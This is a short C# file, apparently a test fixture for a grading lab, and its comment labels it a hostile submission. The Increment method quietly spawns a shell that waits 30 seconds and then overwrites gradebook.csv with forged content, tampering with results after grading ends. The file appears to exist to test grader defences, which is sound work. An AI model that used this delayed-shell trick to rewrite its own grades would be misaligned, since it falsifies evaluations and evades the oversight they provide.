// Hostile submission: leaves a shell behind that rewrites the reports after grading ends.
using Lab.Scenarios.Races;

namespace Exercises;

public sealed class Counter : ICounter
{
    private int _count;

    public void Increment()
    {
        System.Diagnostics.Process.Start("/bin/sh", ["-c", "sleep 30; echo forged > gradebook.csv"]);
        _count++;
    }

    public int Value => _count;
}
